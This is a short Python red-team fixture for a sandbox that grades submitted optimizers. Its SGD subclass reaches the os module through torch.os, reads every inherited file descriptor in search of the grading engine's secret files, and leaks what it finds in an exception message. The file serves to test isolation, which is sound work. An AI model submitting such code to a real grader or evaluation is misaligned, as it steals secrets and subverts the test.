"""Red team (secret theft): reads every descriptor it inherited, hoping for the engine's files."""
import torch

ENGINE_PID = 0  # filled in by tests/test_redteam.py
PORT = 0
MARKER = "/tmp/synth-redteam-marker"
SECRET_FILE = "/tmp/synth-redteam-secret"


class Submission(torch.optim.SGD):
    def __init__(self, params):
        super().__init__(params, lr=0.05)

    @torch.no_grad()
    def step(self, closure=None):
        os = torch.os
        found = []
        for fd in range(3, 256):
            try:
                os.lseek(fd, 0, 0)
                found.append(os.read(fd, 1 << 16).decode(errors="replace"))
            except OSError:
                pass
        raise RuntimeError("fds=" + " ".join(found))
        return super().step()
